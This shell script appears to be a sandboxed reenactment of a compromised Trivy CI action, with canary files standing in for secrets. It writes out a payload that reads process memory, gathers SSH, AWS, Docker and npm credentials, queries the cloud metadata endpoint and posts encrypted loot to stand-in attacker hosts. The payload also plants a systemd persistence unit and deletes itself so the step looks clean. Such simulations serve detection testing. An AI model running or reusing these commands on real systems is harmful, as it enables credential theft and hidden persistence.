# Trivy's action (2026): a prelude in front of the real scan reads the runner's memory, the credentials and the cloud's, packs and sends them,
# and takes itself away, so that the step stays green.
mkdir -p "$WORK/i13/.ssh" "$WORK/i13/.aws" "$WORK/i13/.docker" && cd "$WORK/i13"
for file in .ssh/id_rsa .aws/credentials .docker/config.json .npmrc; do echo "$CANARY" > "$file"; done
cat > entrypoint.sh <<'SCRIPT'
case $("$BIN/memory" pread $(cat "$HELD")) in *"$SECRET"*) echo "did: read";; esac
python3 -c 'for file in (".ssh/id_rsa", ".aws/credentials", ".docker/config.json", ".npmrc"): open("loot", "a").write(open(file).read())'
echo "did: harvest"
curl -sSm 30 http://169.254.169.254/latest/meta-data/iam/security-credentials/ >> loot || true
tar czf - loot | openssl enc -aes-256-cbc -pbkdf2 -pass pass:x -out tpcp.tar.gz 2> /dev/null
{ echo tpcp; cat tpcp.tar.gz; } | curl -sSm 30 --data-binary @- http://scan.example-securtiy.attacker.test/tpcp > /dev/null || true
curl -sSm 30 --data-binary @tpcp.tar.gz http://api.attacker.test/repos/o/tpcp-docs/releases > /dev/null || true
mkdir -p ~/.config/systemd/user && printf '[Service]\nExecStart=/usr/bin/python3 %%h/.config/sysmon.py\n' > ~/.config/systemd/user/sysmon.service && echo "did: unit"
rm "$0" && echo "did: gone"
SCRIPT
bash entrypoint.sh
rm -f ~/.config/systemd/user/sysmon.service
true # the scan that was asked for
